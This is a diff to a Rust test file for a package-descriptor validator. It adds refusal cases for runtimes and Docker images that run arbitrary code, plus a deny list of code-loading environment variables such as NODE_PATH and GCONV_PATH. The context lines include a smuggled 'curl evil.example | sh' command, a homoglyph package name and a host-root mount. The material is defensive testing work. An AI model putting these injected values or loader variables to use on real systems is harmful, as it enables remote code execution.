@@ -159,6 +159,13 @@ fn hostile_packages_are_refused_by_the_field_that_attacks() {
         (json!({ "identifier": "git+https://evil.example/x" }), "packages[0].identifier"),
         (json!({ "identifier": "weather; curl evil.example | sh" }), "packages[0].identifier"),
         (json!({ "identifier": "@exаmple/weather" }), "packages[0].identifier"),
+        (json!({ "identifier": "node" }), "packages[0].identifier: `node` runs any code"),
+        (json!({ "identifier": "supergateway" }), "packages[0].identifier: `supergateway` runs any code"),
+        (
+            json!({ "registryType": "pypi", "identifier": "Python3.12" }),
+            "packages[0].identifier: `Python3.12` runs any code",
+        ),
+        (json!({ "registryType": "pypi", "identifier": "pypy3" }), "packages[0].identifier: `pypy3` runs"),
         (json!({ "version": "latest" }), "packages[0].version: `latest` is not an exact version"),
         (json!({ "version": "1.2.0 --registry=x" }), "packages[0].version"),
         (json!({ "version": null }), "packages[0].version: no version is given"),
@@ -214,9 +221,44 @@ fn hostile_packages_are_refused_by_the_field_that_attacks() {
         let refusal = refusal(&docker(name, value));
         assert!(refusal.starts_with("packages[0].runtimeArguments[0]"), "{name} {value}: {refusal}");
     }
-    for identifier in ["ghcr.io/example/weather", "ghcr.io/example/weather:latest", "-v=/:/host", "a b"] {
+    for identifier in [
+        "ghcr.io/example/weather",
+        "ghcr.io/example/weather:latest",
+        "-v=/:/host",
+        "a b",
+        "bash:5",
+        "library/python:3.12",
+        "docker.io/library/alpine:3",
+        "docker.io/node:22",
+    ] {
         let refusal = refusal(&image(json!({ "identifier": identifier })));
         assert!(refusal.starts_with("packages[0].identifier"), "{refusal}");
+    }
+}
+
+#[test]
+fn variables_that_make_a_runtime_load_other_code_are_refused_and_settings_are_not() {
+    let with = |name: &str| package(json!({ "environmentVariables": [{ "name": name, "value": "x" }] }));
+    for name in [
+        "NODE_PATH",
+        "NODE_COMPILE_CACHE",
+        "PYTHONBREAKPOINT",
+        "pythonpycacheprefix",
+        "PERL5LIB",
+        "RUBYLIB",
+        "_JAVA_OPTIONS",
+        "GCONV_PATH",
+        "OPENSSL_CONF",
+        "REQUESTS_CA_BUNDLE",
+        "BUN_OPTIONS",
+        "ftp_proxy",
+        "BROWSER",
+    ] {
+        let refused = refusal(&with(name));
+        assert!(refused.starts_with("packages[0].environmentVariables[0]"), "{name}: {refused}");
+    }
+    for name in ["NODE_ENV", "PYTHONUNBUFFERED", "LOG_LEVEL", "PAGER_SIZE", "HOME_CITY", "JAVA_HOME"] {
+        assert!(draft(&with(name), &[]).is_ok(), "{name}");
     }
 }
 
